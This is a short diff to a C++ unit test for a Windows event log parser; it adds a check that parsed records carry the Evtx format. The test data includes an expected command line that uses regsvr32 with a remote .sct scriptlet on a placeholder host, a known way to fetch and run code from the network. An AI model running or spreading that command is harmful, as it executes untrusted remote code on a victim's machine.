@@ -58,6 +58,7 @@ TEST(EvtxCases, C19TemplateReuseAndLongCommandLine) {
     EXPECT_EQ(r.at("UserID"), "S-1-5-18");
     EXPECT_EQ(r.at("LogonId"), "0x3e2a1f");
     EXPECT_FALSE(r.recovered);
+    EXPECT_EQ(r.format, EventFormat::Evtx);
   }
   EXPECT_EQ(s.recs[0].at("CommandLine"), "regsvr32.exe /s /n /u /i:http://update.example.test/a.sct scrobj.dll");
   EXPECT_EQ(s.recs[0].at("ParentCommandLine"), "cmd.exe /c run.bat");
